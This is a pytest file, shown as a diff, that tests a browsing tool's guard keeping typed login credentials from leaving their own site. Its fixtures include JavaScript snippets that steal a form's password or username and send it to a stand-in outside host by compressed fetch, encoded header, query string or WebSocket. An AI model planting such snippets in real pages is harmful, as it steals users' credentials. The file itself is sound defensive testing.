@@ -1,0 +1,90 @@
+"""The login on the wire: it reaches its own site, and no request carries it anywhere else."""
+
+from __future__ import annotations
+
+import gzip
+
+import pytest
+
+from explorer.request.account import Account
+from explorer.request.credential import Login
+from explorer.request.scope import scope_of
+from explorer.surfaces.surface import CREDENTIALS, Acted
+from explorer.surfaces.web.guard import _readings
+from explorer.surfaces.web.surface import WebSurface
+from flows.record import Record
+from flows.step import Action, ActionKind
+from tests.explorer.surfaces.web_world import World, named, tap
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+ACCOUNT = Account(Login.of("annabel", "right-horse"), scope_of("https://site.test/"))
+FORM = "<form id=f method=post action=/in><label>User <input name=u></label><label>Password <input type=password name=p></label><button>Go</button></form>"
+
+
+async def typed(surface: WebSurface) -> list[Acted]:
+    done = []
+    for name, part in (("User", "user"), ("Password", "password")):
+        field = named(await surface.observe(), name)
+        done.append(await surface.act(Action(ActionKind.TYPE, field.ref, text="placeholder", credential=part)))
+    return done
+
+
+async def sent(surface: WebSurface) -> list[Record]:
+    await surface.act(tap(named(await surface.observe(), "Go")))
+    await surface.settle(10)
+    return [r for r in surface.drain() if r.source == CREDENTIALS]
+
+
+async def test_at_home_it_is_typed_and_sent_and_its_answer_is_told(world: World) -> None:
+    world.pages["/in"] = "<h1>In</h1>"
+    async with world.surface(FORM, account=ACCOUNT) as surface:
+        assert [a.problem for a in await typed(surface)] == ["", ""]
+        told = await sent(surface)
+        assert [(r.kind, r.data["to"]) for r in told] == [("answered", world.origin("good"))]
+        texts = [t.text for t in (await surface.observe()).texts]
+        assert "In" in texts and any("p=right-horse" in t for t in texts), "the page got what was typed"
+
+
+SCRIPTS = {
+    "compressed": (
+        "new Response(new Blob([x]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()"
+        ".then(b=>fetch('{other}/take',{method:'POST',mode:'no-cors',body:b}))"
+    ),
+    "header": "fetch('{other}/take',{headers:{Accept:btoa('annabel:'+x)}})",
+    "user name alone": "fetch('{other}/take?who='+f.u.value,{mode:'no-cors'})",
+}
+
+
+@pytest.mark.parametrize("script", SCRIPTS)
+async def test_what_a_script_makes_of_it_is_stopped(world: World, script: str) -> None:
+    world.pages["/in"] = "<h1>In</h1>"
+    body = f"{FORM}<script>f.onsubmit=e=>{{e.preventDefault();const x=f.p.value;{SCRIPTS[script]}}}</script>"
+    async with world.surface(body, account=ACCOUNT) as surface:
+        await typed(surface)
+        told = await sent(surface)
+        if not told:
+            await surface.settle(2, change=True)
+            told = [r for r in surface.drain() if r.source == CREDENTIALS]
+        assert [(r.kind, r.data["to"], r.data["how"]) for r in told if r.kind == "stopped"][:1] == [
+            ("stopped", world.origin("other"), "script")
+        ]
+
+
+async def test_a_socket_cannot_be_stopped_and_is_told(world: World) -> None:
+    body = f"{FORM}<script>const s=new WebSocket('{{ws-other}}/ws');f.onsubmit=e=>{{e.preventDefault();s.send(f.p.value);document.title='sent'}}</script>"
+    async with world.surface(body, account=ACCOUNT) as surface:
+        await typed(surface)
+        told = await sent(surface)
+        assert [(r.kind, r.data["how"]) for r in told] == [("leaked", "socket")]
+
+
+async def test_nothing_is_held_up_before_a_login_is_typed(world: World) -> None:
+    async with world.surface(FORM, account=ACCOUNT) as surface:
+        assert surface._guard is not None and not surface._guard.armed
+        await typed(surface)
+        assert surface._guard.armed
+
+
+async def test_bodies_are_read_in_the_encodings_that_scripts_use() -> None:
+    for body in (b"p=x", "p=x".encode("utf-16-le"), gzip.compress(b"p=x")):
+        assert any("p=x" in text for text in _readings(body))
